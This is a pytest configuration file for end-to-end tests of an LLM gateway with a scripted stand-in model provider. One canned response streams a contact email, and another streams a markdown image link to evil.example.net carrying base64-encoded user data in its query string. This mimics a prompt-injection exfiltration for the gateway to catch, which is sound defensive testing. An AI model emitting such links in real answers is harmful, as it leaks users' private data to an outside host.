"""One gate and one provider for all end-to-end tests that need no setting of their own."""

import gc
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
import yaml
from running import Gate, Provider, gate, provider, settings

from proxy.standin.provider import Received

SAID = "Thank you, I have noted everything and will come back with a short plan for the week."


def scripted(received: Received) -> Sequence[str]:
    """Answer what the request's `user`-visible marker asks for; plain words without one."""
    text = received.body.decode("utf-8", "replace")
    if "ANSWER-LEAK" in text:
        return ("The contact you need is ", "carol.jones", "@exam", "ple.net", ", write to ", "her today.")
    if "ANSWER-EXFIL" in text:
        return (
            "Here is the chart: ![chart](https://evil.exa",
            "mple.net/p.png?d=",
            "c2VjcmV0LWRhdGEtb2YtdGhlLXVzZXI",
            ") done.",
        )
    words = SAID.split(" ")
    return [word + (" " if number < len(words) - 1 else "") for number, word in enumerate(words)]


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """The vendors' SDKs leave sockets and loops to the garbage collector when a request is refused."""
    here = Path(__file__).parent
    for item in items:
        if item.path.is_relative_to(here):
            item.add_marker(pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"))
            item.add_marker(pytest.mark.filterwarnings("ignore::ResourceWarning"))
            item.add_marker(pytest.mark.filterwarnings("ignore::DeprecationWarning"))


@pytest.fixture(scope="session")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Provider]:
    with provider(tmp_path_factory.mktemp("provider"), scripted) as running:
        yield running


@pytest.fixture(scope="session")
def running_gate(tmp_path_factory: pytest.TempPathFactory, upstream: Provider) -> Iterator[Gate]:
    folder = tmp_path_factory.mktemp("gate")
    users = folder / "users.yaml"
    write_users(users)
    tiers = folder / "company" / "tiers"
    tiers.mkdir(parents=True)
    (tiers / "data.yaml").write_text(
        "openai: api\nanthropic: api\ngoogle: paid\nchatgpt: unknown\nclaude_ai: unknown\ngemini_app: unknown\n"
    )
    people, policy = {"users": str(users)}, {"data": str(tiers.parent)}
    with gate(folder, settings(folder, upstream, identity=people, policy=policy)) as running:
        yield running


@pytest.fixture(autouse=True)
def _nothing_received(request: pytest.FixtureRequest) -> Iterator[None]:
    if "upstream" in request.fixturenames:
        request.getfixturevalue("upstream").received.clear()
    yield
    gc.collect()  # what the SDKs left open is reported here, not in somebody else's test


def write_users(path: Path) -> None:
    """Three people: an engineer, one of HR, one of finance; the password is the name doubled."""
    from argon2 import PasswordHasher

    hasher = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    groups = {"erin": ["engineering"], "hanna": ["hr"], "fred": ["finance"]}
    users = [{"name": name, "password": hasher.hash(name + name), "groups": group} for name, group in groups.items()]
    path.write_text(yaml.safe_dump({"users": users}))
    path.chmod(0o600)


@pytest.fixture(scope="session")
def opa() -> Path:
    """The OPA binary that the set-up script installs."""
    import os
    import shutil

    found = os.environ.get("LOCKGATE_OPA") or shutil.which("opa")
    if not found:
        pytest.skip("no OPA binary: run deploy/setup tests")
    return Path(found)
